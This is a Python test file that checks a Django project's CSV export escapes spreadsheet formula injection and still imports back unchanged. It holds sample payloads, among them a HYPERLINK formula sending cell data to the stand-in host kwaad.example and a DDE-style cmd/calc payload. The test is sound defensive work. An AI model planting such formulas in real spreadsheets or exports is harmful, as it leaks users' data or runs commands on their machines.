"""CSV exports cannot smuggle a formula into a spreadsheet (OWASP CSV injection), and the plankaart CSV
still imports back unchanged."""

import csv
import io
from decimal import Decimal

import pytest

from plankaart import exporteren
from plankaart.models import Locatie
from portal import csvexport
from tests.plankaart.test_import import capture, importeer  # noqa: F401 - capture is a fixture

pytestmark = pytest.mark.django_db

FORMULES = (
    '=HYPERLINK("https://kwaad.example/?d="&A1,"Klik")',
    "+31 6 12345678",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\tTab voorop",
    "\rRegelterugloop voorop",
)


def test_elke_gevaarlijke_cel_krijgt_een_apostrof_getallen_blijven_getallen():
    uit = io.StringIO()
    schrijver = csvexport.writer(uit)
    schrijver.writerow([*FORMULES, "gewoon", -0.5, Decimal("-5.9000000"), 3, None, "-0.5"])
    cellen = next(csv.reader(io.StringIO(uit.getvalue())))
    assert cellen[: len(FORMULES)] == ["'" + f for f in FORMULES]
    # Numbers passed as numbers are data; a number passed as text is text and is prefixed like text.
    assert cellen[len(FORMULES) :] == ["gewoon", "-0.5", "-5.9000000", "3", "", "'-0.5"]
    assert [csvexport.herstel(c) for c in cellen[: len(FORMULES)]] == list(FORMULES)
    assert csvexport.herstel("'gewoon") == "'gewoon"  # an apostrophe the exporter did not add stays


def test_plankaart_csv_neutraliseert_formules_en_importeert_ongewijzigd_terug(wereld, locatie_op, capture):  # noqa: F811
    locatie_op(100, kenmerk="-K1", omschrijving=FORMULES[0])
    locatie_op(400, kenmerk="@K2", omschrijving="+31 6 12345678 (beheerder)")
    locatie_op(700, kenmerk="K3", omschrijving="Loolaan 3")
    export = exporteren.geojson(Locatie.objects.filter(gemeente=wereld.gemeente_a))
    tekst = exporteren.csv_tekst(export)
    rijen = list(csv.DictReader(io.StringIO(tekst)))
    per_kenmerk = {r["kenmerk"]: r for r in rijen}
    assert set(per_kenmerk) == {"'-K1", "'@K2", "K3"}
    assert per_kenmerk["'-K1"]["omschrijving"] == "'" + FORMULES[0]
    assert per_kenmerk["'@K2"]["omschrijving"] == "'+31 6 12345678 (beheerder)"
    for rij in rijen:  # coordinates are numbers, written as they are
        assert not rij["lat"].startswith("'") and float(rij["x"]) > 0
    for cel in (c for r in rijen for c in r.values()):
        assert not cel.startswith(csvexport.GEVAARLIJK), cel
    # The round trip: importing the export changes nothing, the apostrophes are stripped again.
    imp = importeer(wereld, tekst.encode(), "p.csv", capture=capture)
    assert imp.aantallen == {"ongewijzigd": 3}, imp.rapport
    assert Locatie.objects.get(kenmerk="-K1").omschrijving == FORMULES[0]


def test_negatieve_coordinaten_blijven_getallen():
    collectie = {
        "type": "FeatureCollection",
        "features": [
            {
                "type": "Feature",
                "id": 1,
                "geometry": {"type": "Point", "coordinates": [-0.5, 51.5]},
                "properties": {"omschrijving": "Londen"},
            }
        ],
    }
    rij = next(csv.DictReader(io.StringIO(exporteren.csv_tekst(collectie))))
    assert rij["lon"] == "-0.5000000" and rij["x"].startswith("-")
